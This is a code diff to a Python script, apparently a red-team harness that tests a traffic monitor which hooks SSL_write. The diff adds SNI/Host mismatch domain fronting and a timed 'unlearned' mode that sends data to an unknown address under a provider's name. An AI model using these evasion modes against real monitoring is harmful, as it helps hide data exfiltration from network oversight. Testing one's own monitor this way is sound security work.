@@ -16,8 +16,12 @@ Attacks:
             library and call again after --wait seconds
   decoys    --data A --decoy LIB...: load decoy libraries exporting
             SSL_write (ctypes) before the real libssl, then call
-  fronting  --data A --front NAME: connect to HOST's address with SNI and
-            Host naming NAME (another provider)
+  fronting  --data A --front NAME [--sni SNI]: connect to HOST's address
+            with Host naming NAME (another provider) and SNI naming SNI
+            (default: NAME)
+  unlearned --data A --front NAME: HOST is an address no provider has;
+            SNI and Host name NAME (a provider); two connections, --wait
+            seconds apart (the first one asks for the process's probes)
 """
 
 import argparse
@@ -188,34 +192,42 @@ def decoys(args):
     attempt("decoys", 0, go)
 
 
-def fronting(args, ssl):
+def fronting(args, ssl, attack="fronting", req=0):
     ctx = ssl.create_default_context()
 
     def go():
         raw = socket.create_connection((args.host, 443), timeout=10)
-        tls = ctx.wrap_socket(raw, server_hostname=args.front)
+        tls = ctx.wrap_socket(raw, server_hostname=args.sni or args.front)
         tls.sendall(request_bytes(args.front, args.data[0]))
         st = read_status(tls, 1)
         return st[0] if st else None
-    attempt("fronting", 0, go)
+    attempt(attack, req, go)
+
+
+def unlearned(args, ssl):
+    fronting(args, ssl, "unlearned", 0)
+    time.sleep(args.wait)
+    fronting(args, ssl, "unlearned", 1)
 
 
 def main():
     ap = argparse.ArgumentParser()
     ap.add_argument("attack", choices=["pipeline", "thread", "fork", "late-tls", "decoys",
-                                       "fronting"])
+                                       "fronting", "unlearned"])
     ap.add_argument("host")
     ap.add_argument("--data", action="append", default=[])
     ap.add_argument("--wait", type=float, default=1.5)
     ap.add_argument("--decoy", action="append", default=[])
     ap.add_argument("--front")
+    ap.add_argument("--sni")
     args = ap.parse_args()
     if args.attack == "late-tls":
         return late_tls(args)
     if args.attack == "decoys":
         return decoys(args)
     import ssl
-    {"pipeline": pipeline, "thread": thread, "fork": fork, "fronting": fronting}[args.attack](args, ssl)
+    {"pipeline": pipeline, "thread": thread, "fork": fork, "fronting": fronting,
+     "unlearned": unlearned}[args.attack](args, ssl)
 
 
 if __name__ == "__main__":
